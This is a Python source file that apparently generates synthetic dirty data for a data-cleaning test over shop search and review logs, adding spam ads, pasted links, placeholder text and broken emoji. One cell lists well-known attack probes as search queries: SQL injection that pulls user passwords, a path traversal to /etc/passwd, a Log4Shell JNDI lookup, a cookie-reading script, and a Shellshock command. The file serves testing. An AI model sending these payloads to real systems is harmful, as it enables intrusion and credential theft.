"""Searches and reviews."""

from __future__ import annotations

import json
from typing import Any

from baihuo.exam.independent.dirt.second.common import (
    FIXED,
    as_line,
    of,
    pick,
)
from baihuo.exam.independent.kinds import Bed, Kind, cell, kind
from baihuo.exam.independent.vocabulary import words

cell(
    "query_of_scanner",
    "somebody who looks for holes in the shop",
    "query_text",
    pick(
        "' OR 1=1 --",
        '" UNION SELECT username, password FROM users --',
        "../../../../etc/passwd",
        "${jndi:ldap://x.example/a}",
        "<script>alert(document.cookie)</script>",
        "1;waitfor delay '0:0:5'--",
        "{{7*7}}",
        "() { :;}; /bin/bash -c id",
    ),
    is_fit=of("search"),
    actions=FIXED,
)


cell(
    "query_of_casino",
    "an advertisement typed into the search",
    "query_text",
    pick(
        "澳门新葡京娱乐城 www.9988.example 注册送88元",
        "best online casino bonus http://win-big.example/?r=77",
        "刷单兼职日结300 加群 t.example/abc",
        "buy cheap viagra online no prescription www.pills.example",
        "代开发票 点数优惠 www.fapiao.example",
    ),
    is_fit=of("search"),
    actions=FIXED,
)


cell(
    "query_is_address",
    "a link pasted into the search",
    "query_text",
    lambda rng, v: rng.choice(
        [
            f"https://item.shop.example/{rng.randrange(10**8)}.html?spm=a230r.1.14",
            f"http://m.shop.example/p/{rng.randrange(10**6)}?share=wx&from=singlemessage",
        ]
    ),
    is_fit=of("search"),
    actions=FIXED,
)


cell(
    "query_plus",
    "plus signs between the words, as in a web address",
    "query_text",
    lambda rng, v: v.replace(" ", "+"),
    is_fit=lambda v: v["event_type"] == "search" and str(v.get("query_text")).count(" ") > 0,
    actions=FIXED,
)


cell(
    "query_of_empty_box",
    "the words in an empty search box",
    "query_text",
    pick(
        "请输入关键词",
        "搜索商品",
        "Search products...",
        "What are you looking for?",
        "请输入您要搜索的商品",
    ),
    is_fit=of("search"),
    actions=FIXED,
)


cell(
    "query_in_json",
    "a search that is a request",
    "query_text",
    lambda rng, v: json.dumps({"q": v, "page": 1, "filters": []}, ensure_ascii=False),
    is_fit=of("search"),
    actions=FIXED,
)


cell(
    "query_redacted",
    "a search that somebody blacked out",
    "query_text",
    pick("[REDACTED]", "***", "<removed>", "[filtered]", "已脱敏"),
    is_fit=of("search"),
    actions=FIXED,
)


@kind("reviews_slipped", "reviews that speak of another kind of thing", actions=FIXED)
def reviews_slipped(bed: Bed, own: Kind) -> None:
    sorts = [t[language] for t in words()["types"] for language in ("en", "zh")]
    titles = {
        r.values.get("product_id"): f"{r.values.get('title_en')} {r.values.get('title_zh')}"
        for r in bed.shop.products
    }

    def spoken(values: dict[str, Any]) -> list[str]:
        return [s for s in sorts if s in str(values.get("text"))]

    rows = bed.take(own.table, 60, lambda v: v["event_type"] == "review" and bool(spoken(v)))
    old = [r.values["text"] for r in rows]
    for row, clean, text in zip(rows, old, old[-1:] + old[:-1], strict=True):
        title = titles.get(row.values["product_id"], "")
        if not any(s in title for s in spoken({"text": text})):  # else it may be its review
            row.values["text"] = text
            bed.case(own, [row], field="text", clean=clean)


@kind("half_a_smile", "half of an emoji at the end of a review", actions=FIXED)
def half_a_smile(bed: Bed, own: Kind) -> None:
    for row in bed.take(own.table, own.cases, of("review")):
        clean = row.values["text"]
        row.values["text"] = clean + bed.rng.choice(["\ud83d", "\ude00", "\ud83c"])
        row.raw = as_line(row.values, ascii_only=True)
        bed.case(own, [row], field="text", clean=clean)
